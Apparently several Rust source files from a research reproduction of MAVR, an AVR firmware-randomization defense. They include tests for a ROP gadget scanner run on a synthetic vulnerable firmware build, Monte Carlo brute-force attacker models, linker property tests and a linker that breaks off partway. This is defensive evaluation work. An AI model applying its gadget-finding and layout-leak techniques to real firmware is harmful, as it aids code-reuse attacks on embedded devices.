/// the attacker's stack image the value for r17 comes first and r4 last.
pub fn write_mem_pop_index(reg: u8) -> usize {
    assert!((4..=17).contains(&reg));
    (17 - reg) as usize
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth_firmware::{apps, build, BuildOptions};

    fn tiny_image() -> FirmwareImage {
        build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr())
            .unwrap()
            .image
    }

    #[test]
    fn finds_gadgets_in_tiny_app() {
        let img = tiny_image();
        let gadgets = scan(&img, &ScanOptions::default());
        assert!(
            gadgets.len() > 50,
            "expected a healthy gadget population, got {}",
            gadgets.len()
        );
        assert!(gadgets.iter().all(|g| g.insns.last().unwrap().is_return()));
        // Every gadget within the text section.
        assert!(gadgets.iter().all(|g| g.addr < img.text_end));
    }

    #[test]
    fn dedup_reduces_population() {
        let img = tiny_image();
        let unique = scan(
            &img,
            &ScanOptions {
                max_insns: 6,
                dedup: true,
            },
        );
        let all = scan(
            &img,
            &ScanOptions {
                max_insns: 6,
                dedup: false,
            },
        );
        assert!(unique.len() < all.len());
    }

    #[test]
    fn classifies_paper_gadgets() {
        let img = tiny_image();
        let map = classify(&img).expect("both gadget shapes must exist");
        assert!(is_stk_move(&img.bytes, map.stk_move));
        assert!(is_write_mem(&img.bytes, map.write_mem_std));
        assert_eq!(map.write_mem_pop, map.write_mem_std + 6);
        // The carriers are where the generator placed them.
        let nav = img.symbol("nav_update").unwrap();
        let imu = img.symbol("imu_commit_sample").unwrap();
        assert!(nav.contains(map.stk_move) || img.symbol_containing(map.stk_move).is_some());
        assert!(imu.contains(map.write_mem_std));
    }

    #[test]
    fn gadget_listing_matches_fig4_style() {
        let img = tiny_image();
        let map = classify(&img).unwrap();
        let g = scan(
            &img,
            &ScanOptions {
                max_insns: 8,
                dedup: false,
            },
        )
        .into_iter()
        .find(|g| g.addr == map.stk_move)
        .expect("stk_move must be a scanned gadget too");
        let listing = g.listing();
        assert!(listing.contains("out 0x3e, r29"));
        assert!(listing.contains("out 0x3d, r28"));
        assert!(listing.contains("pop r16"));
        assert!(listing.trim_end().ends_with("ret"));
    }

    #[test]
    fn randomization_leaves_almost_no_survivors() {
        let img = tiny_image();
        let total = scan(
            &img,
            &ScanOptions {
                max_insns: 6,
                dedup: false,
            },
        )
        .len();
        // Survival is a property of the shuffle draw, so judge the average
        // over a handful of seeds instead of betting on one draw; a single
        // unlucky permutation can legitimately leave ~5% alive.
        let seeds = [0u64, 1, 2, 3];
        let alive: usize = seeds
            .iter()
            .map(|&s| {
                let r = mavr::randomize(
                    &img,
                    &mut mavr::seeded_rng(s),
                    &mavr::RandomizeOptions::default(),
                )
                .unwrap();
                survivors(&img, &r.image, &ScanOptions::default())
            })
            .sum();
        assert!(
            alive * 20 < total * seeds.len(),
            "only a sliver may survive on average: {alive}/{} over {} seeds",
            total * seeds.len(),
            seeds.len()
        );
        // Identity "randomization" keeps everything.
        assert_eq!(survivors(&img, &img, &ScanOptions::default()), total);
    }

    #[test]
    fn stats_summarize_population() {
        let img = tiny_image();
        let gadgets = scan(
            &img,
            &ScanOptions {
                max_insns: 8,
                dedup: true,
            },
        );
        let st = stats(&gadgets);
        assert_eq!(st.count, gadgets.len());
        assert_eq!(st.length_histogram.iter().sum::<usize>(), st.count);
        assert!(st.with_pops > 0, "epilogues produce pop gadgets");
        assert!(st.with_sp_writes > 0, "stk_move-family gadgets present");
        assert!(st.with_stores > 0);
        assert_eq!(stats(&[]).count, 0);
    }

    #[test]
    fn pop_index_mapping() {
        assert_eq!(write_mem_pop_index(17), 0);
        assert_eq!(write_mem_pop_index(7), 10);
        assert_eq!(write_mem_pop_index(6), 11);
        assert_eq!(write_mem_pop_index(5), 12);
        assert_eq!(write_mem_pop_index(4), 13);
    }
}
