//! The brute-force attacker model of §V-D and the entropy argument of
//! §VIII-B.
//!
//! Against a *fixed* permutation (the software-only strawman of §VIII-A),
//! each failed guess eliminates one candidate, so success at attempt `j`
//! has probability `1/N` for every `j` and the expected attempt count is
//! `(N+1)/2`. With MAVR's re-randomization on every detected failure, the
//! defender re-draws the permutation each time, the attacker can eliminate
//! nothing, and the expectation rises to `N` — the paper's
//! `(n! + n!)/2 = n!` argument.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

// The closed-form analysis lives with the defense; the attacker-side
// simulations here are validated against it.
pub use mavr::math::{
    entropy_bits, expected_attempts_fixed, expected_attempts_rerandomized, factorial_f64,
};

/// Monte-Carlo attempt count against a *fixed* secret permutation of `n`
/// functions. The attacker enumerates permutations in a random order,
/// eliminating one per failed attempt.
pub fn simulate_fixed(n_functions: usize, rng: &mut StdRng) -> u64 {
    // Drawing without replacement from N candidates is uniform over
    // positions: the secret sits at a uniformly random index in the
    // attacker's (random) enumeration order.
    let n_perms = factorial_u64(n_functions);
    rng.random_range(1..=n_perms)
}

/// Monte-Carlo attempt count when the defender re-randomizes after every
/// failure: each attempt independently succeeds with probability `1/N`
/// (geometric).
pub fn simulate_rerandomized(n_functions: usize, rng: &mut StdRng) -> u64 {
    let n_perms = factorial_u64(n_functions);
    let mut attempts = 1u64;
    while rng.random_range(1..=n_perms) != 1 {
        attempts += 1;
    }
    attempts
}

/// A *mechanistic* Monte-Carlo: the defender holds an actual permutation of
/// `n` function blocks; the attacker guesses full permutations. Used to
/// validate that the abstract models above describe the mechanism.
pub fn simulate_mechanistic_fixed(n_functions: usize, rng: &mut StdRng) -> u64 {
    let mut secret: Vec<usize> = (0..n_functions).collect();
    secret.shuffle(rng);
    // Attacker enumerates all permutations in random order.
    let mut candidates = permutations(n_functions);
    candidates.shuffle(rng);
    for (i, c) in candidates.iter().enumerate() {
        if *c == secret {
            return (i + 1) as u64;
        }
    }
    unreachable!("secret permutation must be among the candidates")
}

fn permutations(n: usize) -> Vec<Vec<usize>> {
    let mut out = Vec::new();
    let mut items: Vec<usize> = (0..n).collect();
    heap_permute(&mut items, n, &mut out);
    out
}

fn heap_permute(items: &mut Vec<usize>, k: usize, out: &mut Vec<Vec<usize>>) {
    if k == 1 {
        out.push(items.clone());
        return;
    }
    for i in 0..k {
        heap_permute(items, k - 1, out);
        if k.is_multiple_of(2) {
            items.swap(i, k - 1);
        } else {
            items.swap(0, k - 1);
        }
    }
}

fn factorial_u64(n: usize) -> u64 {
    (1..=n as u64).product()
}

/// The §VIII-A information-leak attacker: against a **fixed** permutation
/// with a crash-feedback oracle, the attacker does not need to guess the
/// whole permutation at once — they can locate one function at a time
/// (Shacham et al.'s argument against low-entropy ASLR, which the paper
/// cites as the reason a software-only MAVR fails). Locating function `i`
/// among `k` remaining candidate positions costs on average `(k + 1) / 2`
/// probes, so the whole layout falls in O(n²) probes instead of n!/2.
pub fn simulate_incremental_leak(n_functions: usize, rng: &mut StdRng) -> u64 {
    let mut secret: Vec<usize> = (0..n_functions).collect();
    secret.shuffle(rng);
    let mut attempts = 0u64;
    let mut remaining: Vec<usize> = (0..n_functions).collect(); // candidate positions
    for f in 0..n_functions {
        // Probe candidate positions in random order until the oracle says
        // "no crash" (the probe that used function f's true location).
        let mut order = remaining.clone();
        order.shuffle(rng);
        for (probe, &pos) in order.iter().enumerate() {
            attempts += 1;
            if secret[pos] == f {
                remaining.retain(|&p| p != pos);
                let _ = probe;
                break;
            }
        }
    }
    attempts
}

/// Expected probes for the incremental-leak attacker: sum over k = n..1 of
/// (k + 1) / 2 = n(n + 3) / 4.
pub fn expected_incremental_leak(n_functions: f64) -> f64 {
    n_functions * (n_functions + 3.0) / 4.0
}

/// Seeded RNG for reproducible experiments.
pub fn seeded_rng(seed: u64) -> StdRng {
    StdRng::seed_from_u64(seed)
}

/// Which attacker model a Monte-Carlo batch runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BruteModel {
    /// [`simulate_fixed`]: enumerate permutations against a fixed layout.
    Fixed,
    /// [`simulate_rerandomized`]: the defender re-draws after each failure.
    Rerandomized,
    /// [`simulate_mechanistic_fixed`]: fixed layout, explicit permutations.
    MechanisticFixed,
    /// [`simulate_incremental_leak`]: crash-feedback oracle, one function
    /// at a time.
    IncrementalLeak,
}

impl BruteModel {
    /// One trial of this model.
    pub fn simulate(self, n_functions: usize, rng: &mut StdRng) -> u64 {
        match self {
            BruteModel::Fixed => simulate_fixed(n_functions, rng),
            BruteModel::Rerandomized => simulate_rerandomized(n_functions, rng),
            BruteModel::MechanisticFixed => simulate_mechanistic_fixed(n_functions, rng),
            BruteModel::IncrementalLeak => simulate_incremental_leak(n_functions, rng),
        }
    }
}

/// Seed for trial `trial` of a batch based on `base`: a splitmix64-style
/// mix, so every trial gets an independent stream that depends only on
/// `(base, trial)` — never on which worker thread ran it.
fn trial_seed(base: u64, trial: u64) -> u64 {
    let mut z = base ^ trial.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Run `trials` Monte-Carlo trials of `model` across `threads` workers,
/// returning the attempt count of every trial in trial order.
///
/// Each trial draws from its own RNG seeded by `(base_seed, trial index)`,
/// so the result vector is identical for any `threads` value (and matches a
/// serial run) — the Table-style experiments scale with cores without
/// giving up reproducibility. `threads` is clamped to `1..=trials`.
pub fn run_trials_on(
    model: BruteModel,
    n_functions: usize,
    trials: u64,
    base_seed: u64,
    threads: usize,
) -> Vec<u64> {
    let threads = threads.clamp(1, trials.max(1) as usize);
    let run_range = |lo: u64, hi: u64| -> Vec<u64> {
        (lo..hi)
            .map(|t| {
                let mut rng = seeded_rng(trial_seed(base_seed, t));
                model.simulate(n_functions, &mut rng)
            })
            .collect()
    };
    if threads == 1 {
        return run_range(0, trials);
    }
    // Contiguous trial ranges, one per worker; stitched back in trial order.
    let chunk = trials.div_ceil(threads as u64);
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads as u64)
            .map(|w| {
                let (lo, hi) = (w * chunk, ((w + 1) * chunk).min(trials));
                s.spawn(move || run_range(lo, hi))
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("brute-force worker panicked"))
            .collect()
    })
}

/// [`run_trials_on`] with one worker per available core.
pub fn run_trials(model: BruteModel, n_functions: usize, trials: u64, base_seed: u64) -> Vec<u64> {
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
    run_trials_on(model, n_functions, trials, base_seed, threads)
}

/// Mean attempt count over a parallel batch — the number the paper's §V-D
/// table compares against the closed forms.
pub fn mean_attempts(model: BruteModel, n_functions: usize, trials: u64, base_seed: u64) -> f64 {
    let results = run_trials(model, n_functions, trials, base_seed);
    results.iter().map(|&v| v as f64).sum::<f64>() / results.len().max(1) as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entropy_matches_paper() {
        // §VIII-B: 800 symbols generate 6567 bits of entropy.
        let bits = entropy_bits(800);
        assert!(
            (bits - 6567.0).abs() < 1.0,
            "log2(800!) = {bits:.1}, paper says 6567"
        );
        // And the Table I apps.
        assert!(entropy_bits(917) > entropy_bits(800));
        assert_eq!(entropy_bits(0), 0.0);
        assert_eq!(entropy_bits(1), 0.0);
    }

    #[test]
    fn closed_forms() {
        assert_eq!(expected_attempts_fixed(24.0), 12.5);
        assert_eq!(expected_attempts_rerandomized(24.0), 24.0);
        assert_eq!(factorial_f64(4), 24.0);
        assert!(factorial_f64(800).is_infinite());
    }

    #[test]
    fn monte_carlo_matches_closed_form() {
        let mut rng = seeded_rng(42);
        let n = 4; // N = 24 permutations
        let trials = 20_000;
        let mean_fixed: f64 = (0..trials)
            .map(|_| simulate_fixed(n, &mut rng) as f64)
            .sum::<f64>()
            / trials as f64;
        let mean_rerand: f64 = (0..trials)
            .map(|_| simulate_rerandomized(n, &mut rng) as f64)
            .sum::<f64>()
            / trials as f64;
        assert!(
            (mean_fixed - 12.5).abs() < 0.5,
            "fixed: {mean_fixed} vs 12.5"
        );
        assert!(
            (mean_rerand - 24.0).abs() < 1.0,
            "re-randomized: {mean_rerand} vs 24 — re-randomization doubles the work"
        );
        assert!(mean_rerand > mean_fixed * 1.7);
    }

    #[test]
    fn mechanistic_model_agrees() {
        let mut rng = seeded_rng(7);
        let n = 4;
        let trials = 4_000;
        let mean: f64 = (0..trials)
            .map(|_| simulate_mechanistic_fixed(n, &mut rng) as f64)
            .sum::<f64>()
            / trials as f64;
        assert!((mean - 12.5).abs() < 0.8, "mechanistic: {mean} vs 12.5");
    }

    #[test]
    fn incremental_leak_is_polynomially_cheap() {
        // The reason a software-only (fixed permutation) MAVR fails: with
        // crash feedback the layout falls in ~n²/4 probes, while the
        // re-randomizing defense still costs n! per §V-D.
        let mut rng = seeded_rng(13);
        let n = 8;
        let trials = 3_000;
        let mean: f64 = (0..trials)
            .map(|_| simulate_incremental_leak(n, &mut rng) as f64)
            .sum::<f64>()
            / trials as f64;
        let expected = expected_incremental_leak(n as f64); // 22
        assert!(
            (mean - expected).abs() / expected < 0.05,
            "incremental leak: {mean:.1} vs {expected}"
        );
        // Contrast: whole-permutation guessing of 8 functions averages
        // (8! + 1)/2 ≈ 20160 attempts — three orders of magnitude more.
        assert!(mean < expected_attempts_fixed(factorial_f64(8)) / 100.0);
    }

    #[test]
    fn parallel_trials_are_thread_count_invariant() {
        for model in [
            BruteModel::Fixed,
            BruteModel::Rerandomized,
            BruteModel::MechanisticFixed,
            BruteModel::IncrementalLeak,
        ] {
            let serial = run_trials_on(model, 4, 500, 42, 1);
            for threads in [2, 3, 8, 600] {
                assert_eq!(
                    serial,
                    run_trials_on(model, 4, 500, 42, threads),
                    "{model:?} with {threads} threads"
                );
            }
        }
    }

    #[test]
    fn parallel_mean_matches_closed_form() {
        let mean_fixed = mean_attempts(BruteModel::Fixed, 4, 20_000, 42);
        let mean_rerand = mean_attempts(BruteModel::Rerandomized, 4, 20_000, 42);
        assert!(
            (mean_fixed - 12.5).abs() < 0.5,
            "fixed: {mean_fixed} vs 12.5"
        );
        assert!(
            (mean_rerand - 24.0).abs() < 1.0,
            "re-randomized: {mean_rerand} vs 24"
        );
    }

    #[test]
    fn success_probability_is_uniform() {
        // P(success at attempt j) = 1/N for all j — the paper's P(j).
        let mut rng = seeded_rng(9);
        let n = 3; // N = 6
        let trials = 60_000;
        let mut histogram = [0u64; 6];
        for _ in 0..trials {
            let j = simulate_fixed(n, &mut rng);
            histogram[(j - 1) as usize] += 1;
        }
        for (j, &count) in histogram.iter().enumerate() {
            let p = count as f64 / trials as f64;
            assert!(
                (p - 1.0 / 6.0).abs() < 0.01,
                "P({}) = {p}, expected 1/6",
                j + 1
            );
        }
    }
}
