//! Property tests over the linker: randomly shaped programs must link under
//! both toolchains, produce structurally valid images, and *execute
//! identically* regardless of relaxation (relaxation is an encoding
//! optimization, not a semantic change).

use avr_asm::{link, FnBuilder, Program, ToolchainOptions};
use avr_core::device::ATMEGA2560;
use avr_core::{Insn, Reg};
use avr_sim::Machine;
use proptest::prelude::*;

/// Build a random program: `n` leaf functions doing deterministic
/// arithmetic, and a main that calls a subset of them, accumulating into
/// SRAM, then breaks.
fn random_program(
    n_leaves: usize,
    leaf_ops: &[u8],
    call_order: &[usize],
    pad_words: usize,
) -> Program {
    let mut p = Program::new(ATMEGA2560, 4);
    p.vectors[0] = Some("main".to_string());

    let mut main = FnBuilder::new("main")
        .insn(Insn::Ldi {
            d: Reg::R24,
            k: 0x21,
        })
        .insn(Insn::Out {
            a: 0x3e,
            r: Reg::R24,
        })
        .insn(Insn::Ldi {
            d: Reg::R24,
            k: 0xff,
        })
        .insn(Insn::Out {
            a: 0x3d,
            r: Reg::R24,
        })
        .insn(Insn::Ldi { d: Reg::R20, k: 0 });
    for &c in call_order {
        main = main.call(format!("leaf_{}", c % n_leaves));
        // Accumulate each leaf's result (returned in r24).
        main = main.insn(Insn::Add {
            d: Reg::R20,
            r: Reg::R24,
        });
    }
    main = main
        .insn(Insn::Sts {
            k: 0x0400,
            r: Reg::R20,
        })
        .insn(Insn::Break);
    p.push_function(main.build());

    for i in 0..n_leaves {
        let mut b = FnBuilder::new(format!("leaf_{i}")).insn(Insn::Ldi {
            d: Reg::R24,
            k: (i as u8).wrapping_mul(13),
        });
        let op = leaf_ops[i % leaf_ops.len()];
        for _ in 0..(op % 5) {
            b = b.insn(Insn::Inc { d: Reg::R24 });
        }
        // Optional distance padding to force long calls under relaxation.
        if i == n_leaves / 2 {
            for _ in 0..pad_words {
                b = b.insn(Insn::Nop);
            }
        }
        p.push_function(b.insn(Insn::Ret).build());
    }
    p
}

fn run_to_break(image_bytes: &[u8]) -> Option<u8> {
    let mut m = Machine::new_atmega2560();
    m.load_flash(0, image_bytes);
    match m.run(1_000_000) {
        avr_sim::RunExit::Faulted(avr_sim::Fault::Break { .. }) => Some(m.peek_data(0x0400)),
        _ => None,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn both_toolchains_link_and_agree(
        n_leaves in 2usize..20,
        leaf_ops in proptest::collection::vec(any::<u8>(), 1..20),
        call_order in proptest::collection::vec(0usize..20, 1..12),
        pad in prop_oneof![Just(0usize), Just(10), Just(3000)],
    ) {
        let mut prog = random_program(n_leaves, &leaf_ops, &call_order, pad);

        prog.toolchain = ToolchainOptions::mavr();
        let long = link(&prog).unwrap();
        long.validate().unwrap();

        prog.toolchain = ToolchainOptions::stock();
        let relaxed = link(&prog).unwrap();
        relaxed.validate().unwrap();

        // Relaxation never grows the image.
        prop_assert!(relaxed.code_size() <= long.code_size());

        // Same observable behaviour.
        let a = run_to_break(&long.bytes);
        let b = run_to_break(&relaxed.bytes);
        prop_assert!(a.is_some(), "no-relax build must reach break");
        prop_assert_eq!(a, b, "relaxation must not change semantics");
    }

    #[test]
    fn symbol_table_is_exact_partition(
        n_leaves in 2usize..16,
        call_order in proptest::collection::vec(0usize..16, 1..8),
    ) {
        let prog = random_program(n_leaves, &[3], &call_order, 0);
        let img = link(&prog).unwrap();
        // Symbols tile the image exactly: sorted, gapless, ending at size.
        let mut cursor = 0;
        for s in &img.symbols {
            prop_assert_eq!(s.addr, cursor, "gap before {}", s.name);
            cursor = s.end();
        }
        prop_assert_eq!(cursor, img.code_size());
        // Every call target in the emitted code lands on a symbol start or
        // inside a symbol (no dangling targets).
        let mut off = 0u32;
        while off + 1 < img.text_end {
            let Some((insn, w)) = avr_core::decode::decode_at(&img.bytes, off as usize) else {
                break;
            };
            if let Insn::Call { k } | Insn::Jmp { k } = insn {
                prop_assert!(
                    img.symbol_containing(k * 2).is_some(),
                    "dangling target {:#x} at {:#x}",
                    k * 2,
                    off
                );
            }
            off += w * 2;
        }
    }

    #[test]
    fn linking_is_deterministic(
        n_leaves in 2usize..12,
        call_order in proptest::collection::vec(0usize..12, 1..8),
    ) {
        let prog = random_program(n_leaves, &[7], &call_order, 0);
        let a = link(&prog).unwrap();
        let b = link(&prog).unwrap();
        prop_assert_eq!(a, b);
    }
}
