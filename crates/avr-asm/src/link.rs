//! The linker: lays out vectors, functions and rodata, resolves symbols and
//! relaxation, and emits a [`FirmwareImage`].

use std::collections::HashMap;

use avr_core::encode::encode;
use avr_core::image::{FirmwareImage, Symbol, SymbolKind};
use avr_core::Insn;

use crate::item::{Function, Item, Program};
use crate::AsmError;

const BAD_INTERRUPT: &str = "__bad_interrupt";

/// Per-call-site state during relaxation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum SiteWidth {
    Short, // rcall/rjmp, 1 word
    Long,  // call/jmp, 2 words
}

/// Link a [`Program`] into a [`FirmwareImage`].
///
/// Layout is `[vector table][functions, in order][rodata, in order]` with
/// `text_end` at the start of rodata. Relaxation (when
/// [`ToolchainOptions::relax`](crate::ToolchainOptions::relax) is set)
/// iterates monotonically: every cross-function call/jump starts short and
/// is widened until all short sites are in range.
pub fn link(program: &Program) -> Result<FirmwareImage, AsmError> {
    let mut program = program.clone();
    ensure_bad_interrupt(&mut program);
    check_duplicates(&program)?;

    let relax = program.toolchain.relax;
    // Width assignment per function, per item index.
    let mut widths: HashMap<(usize, usize), SiteWidth> = HashMap::new();
    for (fi, f) in program.functions.iter().enumerate() {
        for (ii, item) in f.items.iter().enumerate() {
            if matches!(item, Item::CallSym(_) | Item::JmpSym(_)) {
                widths.insert(
                    (fi, ii),
                    if relax {
                        SiteWidth::Short
                    } else {
                        SiteWidth::Long
                    },
                );
            }
        }
    }

    // Iterate layout until no short site needs widening.
    let layout = loop {
        let layout = compute_layout(&program, &widths)?;
        if !relax {
            break layout;
        }
        let mut changed = false;
        for (fi, f) in program.functions.iter().enumerate() {
            for (ii, item) in f.items.iter().enumerate() {
                let (Item::CallSym(target) | Item::JmpSym(target)) = item else {
                    continue;
                };
                if widths[&(fi, ii)] == SiteWidth::Long {
                    continue;
                }
                let site = layout.item_addr[&(fi, ii)];
                let dest = *layout.fn_addr.get(target.as_str()).ok_or_else(|| {
                    AsmError::UndefinedSymbol {
                        name: target.clone(),
                    }
                })?;
                let delta = i64::from(dest) - (i64::from(site) + 1);
                if !(-2048..=2047).contains(&delta) {
                    widths.insert((fi, ii), SiteWidth::Long);
                    changed = true;
                }
            }
        }
        if !changed {
            break compute_layout(&program, &widths)?;
        }
    };

    emit(&program, &widths, &layout)
}

fn ensure_bad_interrupt(program: &mut Program) {
    let needed = program.vectors.iter().any(Option::is_none);
    let defined = program.functions.iter().any(|f| f.name == BAD_INTERRUPT);
    if needed && !defined {
        // jmp 0 — restart through the reset vector, like avr-libc.
        program.functions.push(Function {
            name: BAD_INTERRUPT.to_string(),
            items: vec![Item::Insn(Insn::Jmp { k: 0 })],
            movable: true,
        });
    }
}

fn check_duplicates(program: &Program) -> Result<(), AsmError> {
    let mut seen = std::collections::HashSet::new();
    for name in program
        .functions
        .iter()
        .map(|f| f.name.as_str())
        .chain(program.rodata.iter().map(|d| d.name.as_str()))
    {
        if !seen.insert(name) {
            return Err(AsmError::DuplicateSymbol {
                name: name.to_string(),
            });
        }
    }
    Ok(())
}

struct Layout {
    /// Word address of each function by name.
    fn_addr: HashMap<String, u32>,
    /// Word size of each function by index.
    fn_words: Vec<u32>,
    /// Word address of each item site.
    item_addr: HashMap<(usize, usize), u32>,
    /// Byte address of each rodata object by name.
    data_addr: HashMap<String, u32>,
    /// Byte offset where text ends / rodata begins.
    text_end: u32,
    /// Total image size in bytes.
    total_bytes: u32,
}

fn item_words(item: &Item, width: Option<SiteWidth>) -> u32 {
    match item {
        Item::Label(_) => 0,
        Item::Insn(i) => i.words(),
        Item::CallSym(_) | Item::JmpSym(_) => match width {
            Some(SiteWidth::Short) => 1,
            _ => 2,
        },
        Item::JmpSymOffset { .. } => 2,
        Item::RjmpLabel(_) | Item::Branch { .. } | Item::LdiSymByte { .. } | Item::Word(_) => 1,
    }
}

fn compute_layout(
    program: &Program,
    widths: &HashMap<(usize, usize), SiteWidth>,
) -> Result<Layout, AsmError> {
    let vec_words = program.vectors.len() as u32 * 2;
    let mut fn_addr = HashMap::new();
    let mut fn_words = Vec::new();
    let mut item_addr = HashMap::new();
    let mut pc = vec_words;
    for (fi, f) in program.functions.iter().enumerate() {
        fn_addr.insert(f.name.clone(), pc);
        let mut len = 0u32;
        for (ii, item) in f.items.iter().enumerate() {
            item_addr.insert((fi, ii), pc + len);
            len += item_words(item, widths.get(&(fi, ii)).copied());
        }
        fn_words.push(len);
        pc += len;
    }
    let text_end = pc * 2;
    let mut data_addr = HashMap::new();
    let mut byte = text_end;
    for d in &program.rodata {
        data_addr.insert(d.name.clone(), byte);
        let mut sz = d.bytes.len() as u32;
        if !sz.is_multiple_of(2) {
            sz += 1;
        }
        byte += sz;
    }
    Ok(Layout {
        fn_addr,
        fn_words,
        item_addr,
        data_addr,
        text_end,
        total_bytes: byte,
    })
}

fn emit(
    program: &Program,
    widths: &HashMap<(usize, usize), SiteWidth>,
    layout: &Layout,
) -> Result<FirmwareImage, AsmError> {
    if layout.total_bytes > program.device.flash_bytes {
        return Err(AsmError::ImageTooLarge {
            required: layout.total_bytes,
            available: program.device.flash_bytes,
        });
    }
    let mut bytes = vec![0u8; layout.total_bytes as usize];
    fn put_at(bytes: &mut [u8], word_addr: u32, insn: &Insn) -> Result<(), AsmError> {
        let ws = encode(insn)?;
        let mut a = (word_addr * 2) as usize;
        for w in ws {
            bytes[a..a + 2].copy_from_slice(&w.to_le_bytes());
            a += 2;
        }
        Ok(())
    }
    macro_rules! put {
        ($addr:expr, $insn:expr $(,)?) => {
            put_at(&mut bytes, $addr, $insn)
        };
    }

    // Vector table.
    for (i, v) in program.vectors.iter().enumerate() {
        let target = v.as_deref().unwrap_or(BAD_INTERRUPT);
        let dest = *layout
            .fn_addr
            .get(target)
            .ok_or_else(|| AsmError::UndefinedSymbol {
                name: target.to_string(),
            })?;
        put!(i as u32 * 2, &Insn::Jmp { k: dest })?;
    }

    // Functions.
    for (fi, f) in program.functions.iter().enumerate() {
        // Local labels -> word addresses.
        let mut labels: HashMap<&str, u32> = HashMap::new();
        for (ii, item) in f.items.iter().enumerate() {
            if let Item::Label(l) = item {
                if labels
                    .insert(l.as_str(), layout.item_addr[&(fi, ii)])
                    .is_some()
                {
                    return Err(AsmError::DuplicateLabel {
                        function: f.name.clone(),
                        label: l.clone(),
                    });
                }
            }
        }
        let lookup_label = |label: &str| -> Result<u32, AsmError> {
            labels
                .get(label)
                .copied()
                .ok_or_else(|| AsmError::UndefinedLabel {
                    function: f.name.clone(),
                    label: label.to_string(),
                })
        };
        let lookup_fn = |name: &str| -> Result<u32, AsmError> {
            layout
                .fn_addr
                .get(name)
                .copied()
                .ok_or_else(|| AsmError::UndefinedSymbol {
                    name: name.to_string(),
                })
        };

        for (ii, item) in f.items.iter().enumerate() {
            let site = layout.item_addr[&(fi, ii)];
            match item {
                Item::Label(_) => {}
                Item::Insn(i) => put!(site, i)?,
                Item::CallSym(name) | Item::JmpSym(name) => {
                    let dest = lookup_fn(name)?;
                    let call = matches!(item, Item::CallSym(_));
                    match widths[&(fi, ii)] {
                        SiteWidth::Long => put!(
                            site,
                            &if call {
                                Insn::Call { k: dest }
                            } else {
                                Insn::Jmp { k: dest }
                            },
                        )?,
                        SiteWidth::Short => {
                            let delta = i64::from(dest) - (i64::from(site) + 1);
                            let k =
                                i16::try_from(delta).map_err(|_| AsmError::BranchOutOfRange {
                                    function: f.name.clone(),
                                    label: name.clone(),
                                    distance: delta,
                                })?;
                            put!(
                                site,
                                &if call {
                                    Insn::Rcall { k }
                                } else {
                                    Insn::Rjmp { k }
                                },
                            )?;
                        }
                    }
                }
                Item::JmpSymOffset { name, byte_offset } => {
                    let dest = lookup_fn(name)? + byte_offset / 2;
                    put!(site, &Insn::Jmp { k: dest })?;
                }
                Item::RjmpLabel(label) => {
                    let dest = lookup_label(label)?;
                    let delta = i64::from(dest) - (i64::from(site) + 1);
                    let k = i16::try_from(delta)
                        .ok()
                        .filter(|k| (-2048..=2047).contains(k))
                        .ok_or_else(|| AsmError::BranchOutOfRange {
                            function: f.name.clone(),
                            label: label.clone(),
                            distance: delta,
                        })?;
                    put!(site, &Insn::Rjmp { k })?;
                }
                Item::Branch { s, when_set, label } => {
                    let dest = lookup_label(label)?;
                    let delta = i64::from(dest) - (i64::from(site) + 1);
                    let k = i8::try_from(delta)
                        .ok()
                        .filter(|k| (-64..=63).contains(k))
                        .ok_or_else(|| AsmError::BranchOutOfRange {
                            function: f.name.clone(),
                            label: label.clone(),
                            distance: delta,
                        })?;
                    put!(
                        site,
                        &if *when_set {
                            Insn::Brbs { s: *s, k }
                        } else {
                            Insn::Brbc { s: *s, k }
                        },
                    )?;
                }
                Item::LdiSymByte {
                    d,
                    sym,
                    offset,
                    byte,
                } => {
                    if layout.fn_addr.contains_key(sym.as_str()) {
                        return Err(AsmError::LdiOfFunctionAddress { name: sym.clone() });
                    }
                    let addr = *layout
                        .data_addr
                        .get(sym.as_str())
                        .ok_or_else(|| AsmError::UndefinedSymbol { name: sym.clone() })?
                        + offset;
                    let k = ((addr >> (byte * 8)) & 0xff) as u8;
                    put!(site, &Insn::Ldi { d: *d, k })?;
                }
                Item::Word(w) => {
                    let a = (site * 2) as usize;
                    bytes[a..a + 2].copy_from_slice(&w.to_le_bytes());
                }
            }
        }
    }

    // Rodata + function-pointer slots.
    let mut fn_ptr_locs = Vec::new();
    for d in &program.rodata {
        let base = layout.data_addr[&d.name] as usize;
        bytes[base..base + d.bytes.len()].copy_from_slice(&d.bytes);
        for (off, target) in &d.fn_ptrs {
            let dest =
                *layout
                    .fn_addr
                    .get(target.as_str())
                    .ok_or_else(|| AsmError::UndefinedSymbol {
                        name: target.clone(),
                    })?;
            let word_addr = dest as u16; // AVR function pointers are word addresses
            bytes[base + off..base + off + 2].copy_from_slice(&word_addr.to_le_bytes());
            fn_ptr_locs.push((base + off) as u32);
        }
    }

    // Symbol table, address-sorted.
    let mut symbols = Vec::new();
    symbols.push(Symbol {
        name: "__vectors".to_string(),
        addr: 0,
        size: program.vectors.len() as u32 * 4,
        kind: SymbolKind::Fixed,
    });
    for (fi, f) in program.functions.iter().enumerate() {
        symbols.push(Symbol {
            name: f.name.clone(),
            addr: layout.fn_addr[&f.name] * 2,
            size: layout.fn_words[fi] * 2,
            kind: if f.movable {
                SymbolKind::Function
            } else {
                SymbolKind::Fixed
            },
        });
    }
    for d in &program.rodata {
        let mut sz = d.bytes.len() as u32;
        if !sz.is_multiple_of(2) {
            sz += 1;
        }
        symbols.push(Symbol {
            name: d.name.clone(),
            addr: layout.data_addr[&d.name],
            size: sz,
            kind: SymbolKind::Object,
        });
    }
    symbols.sort_by_key(|s| s.addr);

    let image = FirmwareImage {
        device: program.device,
        bytes,
        symbols,
